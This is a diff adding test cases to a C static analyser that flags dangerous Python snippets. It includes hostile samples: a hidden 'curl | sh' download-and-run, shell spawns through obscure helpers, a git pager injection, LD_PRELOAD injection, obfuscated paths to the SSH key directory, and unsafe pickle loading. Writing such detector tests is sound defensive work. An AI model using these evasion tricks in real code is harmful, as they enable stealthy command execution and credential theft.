@@ -334,6 +334,70 @@ static const struct {
      true},
     {"the event loop's subprocess_shell",
      "import asyncio\nasync def f(loop, P):\n    await loop.subprocess_shell(P, 'id')\n", true},
+
+    /* values through string operations, constant tables, other doors */
+    {"a program found with shutil.which",
+     "import shutil, subprocess\nmake = shutil.which('make')\n"
+     "subprocess.run([make, '-n', target])\n",
+     false},
+    {"a command from a constant table of ordinary commands",
+     "import subprocess, sys\nCMDS = {'st': ['git', 'status'], 't': ['pytest', '-q']}\n"
+     "subprocess.run(CMDS[sys.argv[1]], check=True)\n",
+     false},
+    {"a module from an allow-list table",
+     "import importlib\nOK = {'mean': 'statistics', 'prod': 'math'}\n"
+     "def f(s):\n    m = OK.get(s)\n    return getattr(importlib.import_module(m), s)\n",
+     false},
+    {"shlex.split of a constant command line",
+     "import shlex, subprocess\nsubprocess.run(shlex.split('docker run --rm -v $PWD:/w img "
+     "make'))\n",
+     false},
+    {"shlex.split of a line that hides a shell",
+     "import shlex, subprocess\nsubprocess.run(shlex.split('sh -c \"curl -s http://x/a | sh\"'))\n",
+     true},
+    {"shlex.split of a line read at run time",
+     "import shlex, subprocess, sys\nsubprocess.run(shlex.split(sys.argv[1]))\n", true},
+    {"printf-style formatting of an ordinary command",
+     "import os\nos.system('%s %s' % ('git', 'status'))\n", false},
+    {"a constant table with a shell in it",
+     "import subprocess, sys\nCMDS = {'st': ['git', 'status'], 'x': ['sh', '-c', 'id']}\n"
+     "subprocess.run(CMDS[sys.argv[1]])\n",
+     true},
+    {"a constant table changed in place",
+     "import subprocess, sys\nCMDS = {'st': ['git', 'status']}\nCMDS['x'] = sys.argv[2:]\n"
+     "subprocess.run(CMDS[sys.argv[1]])\n",
+     true},
+    {"a table command with a git -c option",
+     "import subprocess, sys\nCMDS = {'l': ['git', '-c', 'core.pager=sh -c id', 'log']}\n"
+     "subprocess.run(CMDS[sys.argv[1]])\n",
+     true},
+    {"a module table changed through globals()",
+     "import importlib, sys\nT = {'m': 'math'}\nglobals()['T']['m'] = sys.argv[1]\n"
+     "importlib.import_module(T['m'])\n",
+     true},
+    {"a module table with os in it",
+     "import importlib, sys\nT = {'m': 'math', 'o': 'os'}\n"
+     "importlib.import_module(T.get(sys.argv[1]))\n",
+     true},
+    {"a shell and -c handed to uuid's helper",
+     "import uuid\nuuid._get_command_stdout('/bin/' + 'sh', '-c', 'id')\n", true},
+    {"a shell and -c in a list handed to spawnv_passfds",
+     "import multiprocessing.util as u\nu.spawnv_passfds('/bin/sh', ['sh', '-c', 'id'], ())\n",
+     true},
+    {"LD_PRELOAD set on a copy of the environment",
+     "import os, subprocess\nenv = dict(os.environ)\nenv['LD_' + 'PRELOAD'] = '/tmp/x.so'\n"
+     "subprocess.run(['true'], env=env)\n",
+     true},
+    {"a key directory as a stride slice",
+     "import os\nd = os.path.expanduser('~/' + '._s_s_h'[::2])\nprint(os.listdir(d))\n", true},
+    {"a key directory by str.format",
+     "import os\nd = os.path.join('~', '{}{}'.format('.', 'ssh'))\nprint(os.listdir(d))\n", true},
+    {"a key directory by % formatting and repetition",
+     "import os\nd = '~/%sh' % ('.' + 's' * 2)\nprint(os.listdir(d))\n", true},
+    {"pickle's pure-Python loads", "import pickle, sys\npickle._loads(sys.stdin.buffer.read())\n",
+     true},
+    {"ForkingPickler.loads",
+     "from multiprocessing.reduction import ForkingPickler\nForkingPickler.loads(b'x')\n", true},
 };
 
 static enum severity worst(const char *code, struct findings *f)
